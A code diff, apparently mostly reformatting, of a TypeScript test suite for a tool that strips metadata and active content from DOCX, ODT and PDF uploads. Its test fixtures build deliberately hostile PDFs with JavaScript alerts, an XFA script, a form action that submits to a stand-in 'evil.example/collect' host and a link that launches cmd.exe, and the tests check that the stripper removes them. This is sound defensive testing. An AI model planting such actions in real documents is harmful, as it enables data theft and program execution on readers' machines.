@@ -35,8 +35,12 @@ function hostileDocx(): Uint8Array {
       '<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/></Types>',
     ),
   );
-  files['customXml/item1.xml'] = strToU8(`<?xml version="1.0"?><p:properties xmlns:p="urn:x"><Pelapor>${NAME}</Pelapor><NIK>6171010101900001</NIK></p:properties>`);
-  files['customXml/itemProps1.xml'] = strToU8('<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>');
+  files['customXml/item1.xml'] = strToU8(
+    `<?xml version="1.0"?><p:properties xmlns:p="urn:x"><Pelapor>${NAME}</Pelapor><NIK>6171010101900001</NIK></p:properties>`,
+  );
+  files['customXml/itemProps1.xml'] = strToU8(
+    '<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>',
+  );
   files['customXml/_rels/item1.xml.rels'] = strToU8(
     '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>',
   );
@@ -81,7 +85,11 @@ test('DOCX: documents embedded in it are stripped too: an XLSX with its author a
   files['word/embeddings/Microsoft_Word_Document.docx'] = zipSync(inner);
   const summary = Buffer.concat([Buffer.from([0xfe, 0xff, 0, 0]), Buffer.alloc(96), Buffer.from(`Author\0${NAME}\0`, 'latin1')]);
   const container = CFB.utils.cfb_new();
-  CFB.utils.cfb_add(container, '/WordDocument', Uint8Array.from({ length: 5000 }, (_, i) => (i * 31) % 256));
+  CFB.utils.cfb_add(
+    container,
+    '/WordDocument',
+    Uint8Array.from({ length: 5000 }, (_, i) => (i * 31) % 256),
+  );
   CFB.utils.cfb_add(container, '/\u0005SummaryInformation', summary);
   files['word/embeddings/oleObject1.bin'] = new Uint8Array(CFB.write(container, { type: 'buffer' }) as Uint8Array);
   const output = unzipSync(stripOoxml(zipSync(files)));
@@ -93,13 +101,19 @@ test('DOCX: documents embedded in it are stripped too: an XLSX with its author a
   // Two levels deep is refused rather than guessed at.
   const deeper = unzipSync(fixtureBytes('letter.docx'));
   deeper['word/embeddings/outer.docx'] = zipSync(files);
-  assert.throws(() => stripOoxml(zipSync(deeper)), (e: unknown) => e instanceof AppError && e.code === 'attachment_type_not_allowed');
+  assert.throws(
+    () => stripOoxml(zipSync(deeper)),
+    (e: unknown) => e instanceof AppError && e.code === 'attachment_type_not_allowed',
+  );
 });
 
 test('DOCX: an embedded TIFF (which has no stripper) is refused', () => {
   const files = unzipSync(fixtureBytes('letter.docx'));
   files['word/media/image1.tif'] = Uint8Array.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0, 0, 0, ...strToU8(NAME)]);
-  assert.throws(() => stripOoxml(zipSync(files)), (e: unknown) => e instanceof AppError && e.code === 'attachment_type_not_allowed');
+  assert.throws(
+    () => stripOoxml(zipSync(files)),
+    (e: unknown) => e instanceof AppError && e.code === 'attachment_type_not_allowed',
+  );
 });
 
 // ---------------------------------------------------------------------------------------------
@@ -109,13 +123,19 @@ function hostileOdt(): Uint8Array {
   const files = unzipSync(fixtureBytes('letter.odt'));
   const meta = strFromU8(files['meta.xml']!);
   files['meta.xml'] = strToU8(
-    meta.replace('<office:meta>', `<office:meta><meta:initial-creator>${NAME}</meta:initial-creator><meta:template xlink:type="simple" xlink:href="file:///home/budi.santoso/Templates/surat.ott" xlink:title="surat"/>`),
+    meta.replace(
+      '<office:meta>',
+      `<office:meta><meta:initial-creator>${NAME}</meta:initial-creator><meta:template xlink:type="simple" xlink:href="file:///home/budi.santoso/Templates/surat.ott" xlink:title="surat"/>`,
+    ),
   );
   files['Pictures/10000000000001.jpg'] = PHOTO;
   files['Thumbnails/thumbnail.png'] = files['Thumbnails/thumbnail.png']!;
   const manifest = strFromU8(files['META-INF/manifest.xml']!);
   files['META-INF/manifest.xml'] = strToU8(
-    manifest.replace('</manifest:manifest>', ' <manifest:file-entry manifest:full-path="Pictures/10000000000001.jpg" manifest:media-type="image/jpeg"/>\n</manifest:manifest>'),
+    manifest.replace(
+      '</manifest:manifest>',
+      ' <manifest:file-entry manifest:full-path="Pictures/10000000000001.jpg" manifest:media-type="image/jpeg"/>\n</manifest:manifest>',
+    ),
   );
   const { mimetype, ...rest } = files;
   return zipSync({ mimetype: [mimetype!, { level: 0 }], ...rest });
@@ -123,8 +143,12 @@ function hostileOdt(): Uint8Array {
 
 test('ODT: an embedded object (a folder of its own: Object 1/meta.xml) loses its author too', () => {
   const files = unzipSync(hostileOdt());
-  files['Object 1/meta.xml'] = strToU8(`<?xml version="1.0"?><office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.3"><office:meta><meta:initial-creator>${NAME}</meta:initial-creator></office:meta></office:document-meta>`);
-  files['Object 1/content.xml'] = strToU8(`<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><office:annotation><dc:creator>${NAME}</dc:creator></office:annotation></office:document-content>`);
+  files['Object 1/meta.xml'] = strToU8(
+    `<?xml version="1.0"?><office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.3"><office:meta><meta:initial-creator>${NAME}</meta:initial-creator></office:meta></office:document-meta>`,
+  );
+  files['Object 1/content.xml'] = strToU8(
+    `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><office:annotation><dc:creator>${NAME}</dc:creator></office:annotation></office:document-content>`,
+  );
   const { mimetype, ...rest } = files;
   const output = unzipSync(stripOdf(zipSync({ mimetype: [mimetype!, { level: 0 }], ...rest })));
   for (const [name, data] of Object.entries(output)) assertNoIdentity(data, name);
@@ -159,7 +183,13 @@ async function hostilePdf(): Promise<Uint8Array> {
   doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert(1)') }));
   page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert(2)') }));
   // An XFA form: its template carries scripts that Acrobat runs.
-  const xfa = context.register(context.stream(strToU8(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert("${NAME}")</script></template></xdp:xdp>`)));
+  const xfa = context.register(
+    context.stream(
+      strToU8(
+        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert("${NAME}")</script></template></xdp:xdp>`,
+      ),
+    ),
+  );
   doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: xfa }));
   const fileSpec = context.obj({
     Type: 'Filespec',
@@ -170,11 +200,29 @@ async function hostilePdf(): Promise<Uint8Array> {
     // a comment with a file attached
     context.register(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 10, 10], FS: fileSpec, T: PDFString.of(NAME) })),
     // a link that stays
-    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 20, 10, 30], A: { S: 'URI', URI: PDFString.of('https://lapor.go.id') } })),
+    context.register(
+      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 20, 10, 30], A: { S: 'URI', URI: PDFString.of('https://lapor.go.id') } }),
+    ),
     // a form button that sends the form away, and one that launches a program
-    context.register(context.obj({ Type: 'Annot', Subtype: 'Widget', Rect: [0, 40, 10, 50], A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') } })),
-    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 60, 10, 70], A: { S: 'Launch', F: PDFString.of('cmd.exe') } })),
-    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 80, 10, 90], A: { S: 'GoToR', F: PDFString.of('//server/budi.santoso/x.pdf'), D: [0, { Fit: null }] } })),
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'Widget',
+        Rect: [0, 40, 10, 50],
+        A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') },
+      }),
+    ),
+    context.register(
+      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 60, 10, 70], A: { S: 'Launch', F: PDFString.of('cmd.exe') } }),
+    ),
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [0, 80, 10, 90],
+        A: { S: 'GoToR', F: PDFString.of('//server/budi.santoso/x.pdf'), D: [0, { Fit: null }] },
+      }),
+    ),
   ]);
   page.node.set(PDFName.of('Annots'), annots);
   return doc.save({ useObjectStreams: false });
@@ -188,8 +236,12 @@ async function pdfTexts(bytes: Uint8Array): Promise<{ names: Set<string>; text: 
   const jpegs: Uint8Array[] = [];
   const visit = (value: unknown): void => {
     if (value instanceof PDFName) names.add(value.decodeText());
-    else if (value instanceof PDFDict) for (const [k, v] of value.entries()) (names.add(k.decodeText()), visit(v));
-    else if (value instanceof PDFArray) value.asArray().forEach(visit);
+    else if (value instanceof PDFDict) {
+      for (const [k, v] of value.entries()) {
+        names.add(k.decodeText());
+        visit(v);
+      }
+    } else if (value instanceof PDFArray) value.asArray().forEach(visit);
     else if (value !== null && typeof value === 'object' && 'decodeText' in value) parts.push((value as PDFString).decodeText());
   };
   for (const [, object] of doc.context.enumerateIndirectObjects()) {
@@ -198,7 +250,8 @@ async function pdfTexts(bytes: Uint8Array): Promise<{ names: Set<string>; text: 
       const filter = object.dict.get(PDFName.of('Filter'));
       const contents = object.getContents();
       if (filter instanceof PDFName && filter.decodeText() === 'DCTDecode') jpegs.push(contents);
-      else if (filter instanceof PDFName && filter.decodeText() === 'FlateDecode') parts.push(Buffer.from(inflateSync(contents, { finishFlush: constants.Z_SYNC_FLUSH })).toString('latin1'));
+      else if (filter instanceof PDFName && filter.decodeText() === 'FlateDecode')
+        parts.push(Buffer.from(inflateSync(contents, { finishFlush: constants.Z_SYNC_FLUSH })).toString('latin1'));
       else parts.push(Buffer.from(contents).toString('latin1'));
     } else visit(object);
   }
@@ -208,12 +261,27 @@ async function pdfTexts(bytes: Uint8Array): Promise<{ names: Set<string>; text: 
 test('PDF: the photo inside loses EXIF/GPS; scripts, open actions, embedded files and form actions go; links stay', async () => {
   const input = await hostilePdf();
   const before = await pdfTexts(input);
-  for (const name of ['JavaScript', 'OpenAction', 'EmbeddedFiles', 'SubmitForm', 'Launch', 'GoToR', 'AA', 'EF', 'XFA']) assert.ok(before.names.has(name), `the attack PDF has ${name}`);
+  for (const name of ['JavaScript', 'OpenAction', 'EmbeddedFiles', 'SubmitForm', 'Launch', 'GoToR', 'AA', 'EF', 'XFA'])
+    assert.ok(before.names.has(name), `the attack PDF has ${name}`);
   assert.ok(before.text.includes(NAME));
 
   const output = await stripPdf(input);
   const after = await pdfTexts(output);
-  for (const name of ['JavaScript', 'JS', 'OpenAction', 'EmbeddedFiles', 'EmbeddedFile', 'SubmitForm', 'ImportData', 'Launch', 'GoToR', 'AA', 'EF', 'FS', 'XFA']) {
+  for (const name of [
+    'JavaScript',
+    'JS',
+    'OpenAction',
+    'EmbeddedFiles',
+    'EmbeddedFile',
+    'SubmitForm',
+    'ImportData',
+    'Launch',
+    'GoToR',
+    'AA',
+    'EF',
+    'FS',
+    'XFA',
+  ]) {
     assert.ok(!after.names.has(name), `/${name} is left in the PDF`);
   }
   const at = after.text.indexOf(NAME);
@@ -232,7 +300,14 @@ test('PDF: the photo inside loses EXIF/GPS; scripts, open actions, embedded file
 test('PDF: a JPEG behind FlateDecode is stripped too, and a JPEG stream that is no JPEG is refused', async () => {
   const doc = await PDFDocument.create();
   const page = doc.addPage([100, 100]);
-  const stream = doc.context.flateStream(PHOTO, { Type: 'XObject', Subtype: 'Image', Width: 16, Height: 16, ColorSpace: 'DeviceRGB', BitsPerComponent: 8 });
+  const stream = doc.context.flateStream(PHOTO, {
+    Type: 'XObject',
+    Subtype: 'Image',
+    Width: 16,
+    Height: 16,
+    ColorSpace: 'DeviceRGB',
+    BitsPerComponent: 8,
+  });
   stream.dict.set(PDFName.of('Filter'), doc.context.obj(['FlateDecode', 'DCTDecode']));
   const ref = doc.context.register(stream);
   page.node.set(PDFName.of('Resources'), doc.context.obj({ XObject: { Im1: ref } }));
@@ -241,9 +316,14 @@ test('PDF: a JPEG behind FlateDecode is stripped too, and a JPEG stream that is 
   assertCleanJpeg(after.jpegs[0]!, 'the Flate+DCT photo');
 
   const broken = await PDFDocument.create();
-  const bad = broken.context.register(broken.context.stream(strToU8(`not a jpeg ${NAME}`), { Type: 'XObject', Subtype: 'Image', Filter: 'DCTDecode', Width: 1, Height: 1 }));
+  const bad = broken.context.register(
+    broken.context.stream(strToU8(`not a jpeg ${NAME}`), { Type: 'XObject', Subtype: 'Image', Filter: 'DCTDecode', Width: 1, Height: 1 }),
+  );
   broken.addPage([10, 10]).node.set(PDFName.of('Resources'), broken.context.obj({ XObject: { Im1: bad } }));
-  await assert.rejects(stripPdf(await broken.save({ useObjectStreams: false })), (e: unknown) => e instanceof AppError && e.code === 'invalid_input');
+  await assert.rejects(
+    stripPdf(await broken.save({ useObjectStreams: false })),
+    (e: unknown) => e instanceof AppError && e.code === 'invalid_input',
+  );
 });
 
 // ---------------------------------------------------------------------------------------------
